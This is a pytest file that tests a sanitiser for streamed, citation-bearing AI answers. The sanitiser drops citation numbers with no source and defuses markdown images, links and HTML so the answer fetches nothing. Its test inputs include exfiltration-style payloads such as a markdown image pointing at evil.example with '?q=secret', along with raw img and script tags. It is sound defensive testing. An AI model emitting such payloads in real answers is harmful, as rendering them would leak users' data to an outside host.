"""Citations stand for the sources there are, and a checked answer fetches nothing on its own."""

import pytest

from courtyard.knowledge import Citing, citations


def checked(text: str, count: int, *, size: int = 1) -> str:
    """What is left of a text that came in pieces of a size."""
    citing = Citing(count)
    return "".join([citing.feed(text[at : at + size]) for at in range(0, len(text), size)]) + citing.end()


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Leave is 25 days [1].", "Leave is 25 days [1]."),
        ("Leave is 25 days [7].", "Leave is 25 days."),
        ("Both hold[1, 9][2][0].", "Both hold[1][2]."),
        ("![x](https://evil.example/?q=secret)", "[x](https://evil.example/?q=secret)"),
        ("![x][1] and ![y] [2]", "[x][1] and [y] [2]"),
        ("See [1](https://evil.example).", "See [1] (https://evil.example)."),
        ("See [[1]](https://evil.example).", "See [[1]] (https://evil.example)."),
        ("As said.\n[1]: https://evil.example", "As said.\n[1] : https://evil.example"),
        (
            '<img src="https://evil.example/x"> <script>x</script>',
            '< img src="https://evil.example/x"> < script>x< /script>',
        ),
        ("In code `a[7]` and `![`, then [7]", "In code `a[7]` and `![`, then"),
        ("```py\nrows[9](x)  # <b>\n```\nfor [2]", "```py\nrows[9](x)  # <b>\n```\nfor [2]"),
        ("In 2024 [2024] [a] [1", "In 2024 [2024] [a] [1"),
        ("Wow! 5 < 6 [2] !", "Wow! 5 < 6 [2] !"),
    ],
)
def test_an_answer_is_checked_however_it_is_cut(text, left):
    """The same is left of pieces of one letter, of five, and of the whole."""
    assert [checked(text, 2, size=size) for size in (1, 5, 1000)] == [left] * 3


def test_citations_are_found_with_their_places():
    """Each number of a list is one; what has no source, and what stands in code, is none."""
    text = "A [1]. B [1, 3]. C [4]. D `x[2]`. 第二 [2]。"
    found = citations(text, 3)

    assert [(one.number, text[one.start : one.end]) for one in found] == [
        (1, "[1]"),
        (1, "[1, 3]"),
        (3, "[1, 3]"),
        (2, "[2]"),
    ]
    assert citations("[1]", 0) == ()
